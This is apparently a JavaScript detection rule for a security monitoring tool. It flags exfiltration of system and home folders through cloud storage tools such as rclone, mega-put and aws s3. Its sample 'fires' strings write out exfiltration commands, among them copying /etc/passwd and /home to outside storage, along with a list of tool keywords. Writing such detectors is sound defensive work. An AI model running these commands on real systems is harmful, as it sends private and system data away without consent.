import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

const PLACE = /^(?:\/etc|\/home|\/root|\/var\/(?:www|lib)|\/srv|\/opt|\/)(?:\/|$)/;

/** A tool for cloud storage sends folders of people or of the system away. */
export const cloudStorageUpload = commandRule({
  id: "cloud-storage-upload",
  alertType: "Picket_CloudStorageUpload",
  name: "Upload to foreign cloud storage",
  severity: "Medium",
  about: "A tool for cloud storage sends folders of people or of the system away.",
  tactics: ["Exfiltration"],
  techniques: ["T1567.002"],
  falsePositives: ["Backups to one's own storage; give its name an exception."],
  witness: [
    "rclone",
    "mega-put",
    "megacmd",
    "gsutil",
    "aws",
    "s3cmd",
    "azcopy",
    "gdrive",
    "dropbox",
    "mc ",
    "restic",
  ],
  sees: (reading) =>
    find(
      reading,
      /^rclone$/,
      ({ argv }) =>
        /^(?:copy|sync|move|copyto)$/.test(argv[1] ?? "") &&
        argv.some((word) => PLACE.test(word)) &&
        argv.some((word) => /^[\w-]+:/.test(word)) &&
        argv.some((word) => /--(?:config=?|no-check-certificate|drive|mega|transfers)|\/tmp\//.test(word)),
    ) ??
    find(reading, /^(?:mega-put|gdrive)$/, ({ argv }) => argv.length > 1) ??
    find(
      reading,
      /^(?:aws|gsutil|s3cmd|azcopy)$/,
      ({ argv, text }) =>
        /\s(?:cp|sync|put|rsync|copy)\b/.test(text) &&
        argv.some((word) => /^\/(?:etc|root|home)(?:\/|$)/.test(word)) &&
        !/\s(?:s3|gs):\/\/\S+\s+\//.test(text),
    ),
  did: "uploaded data to cloud storage",
  because: "data leaves to somebody else's storage",
  fires: [
    "rclone copy /home mega:x --config=/tmp/r.conf",
    "mega-put /srv/data /x",
    "aws s3 cp /etc/passwd s3://x/",
  ],
  silent: [
    "rclone sync /srv/data backup:data",
    "aws s3 ls",
    "aws s3 cp s3://artifacts/app.tgz /opt/app.tgz",
    "rclone version",
    "gsutil cp build.tgz gs://releases/",
  ],
});
